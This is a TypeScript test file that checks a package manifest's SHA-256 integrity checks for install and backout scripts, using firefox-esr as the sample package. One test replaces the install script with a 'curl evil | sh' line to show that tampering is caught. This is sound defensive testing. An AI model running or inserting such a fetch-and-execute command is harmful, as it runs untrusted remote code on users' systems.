import { sayIn } from '../../../src/i18n/refusal';
import { buildManifest, manifestProblems as problemsSaid, sha256Hex } from '../../../src/packages/manifest';

/** The problems as an English reader reads them. */
const manifestProblems = (...a: Parameters<typeof problemsSaid>) => problemsSaid(...a).map((p) => sayIn('en', p));

const pkg = {
  name: 'firefox-esr',
  version: '128.1',
  idempotent: true,
  scripts: { install: 'apt-get install -y firefox-esr\n', backout: 'apt-get remove -y firefox-esr\n' },
};

test('the manifest names each script by SHA-256 and is stable', () => {
  const m = buildManifest(pkg);
  expect(JSON.parse(m).scripts.install).toBe(sha256Hex(pkg.scripts.install));
  expect(buildManifest({ ...pkg })).toBe(m);
  expect(manifestProblems(pkg, m)).toEqual([]);
});

test('a changed script, an extra script, another version or a changed promise are problems', () => {
  const m = buildManifest(pkg);
  expect(manifestProblems({ ...pkg, scripts: { ...pkg.scripts, install: 'curl evil | sh\n' } }, m)).toEqual([
    expect.stringContaining("install script's SHA-256 does not match"),
  ]);
  expect(manifestProblems({ ...pkg, scripts: { ...pkg.scripts, check: 'true' } }, m)).toEqual([
    'the check script is not in the signed manifest',
  ]);
  expect(manifestProblems({ ...pkg, version: '129' }, m)[0]).toContain('not firefox-esr 129');
  expect(manifestProblems({ ...pkg, idempotent: false }, m)).toEqual(['the idempotent flag differs from the manifest']);
  expect(manifestProblems(pkg, '{"format":"other"}')).toEqual(['the manifest is not a valid opsdesk package manifest']);
});
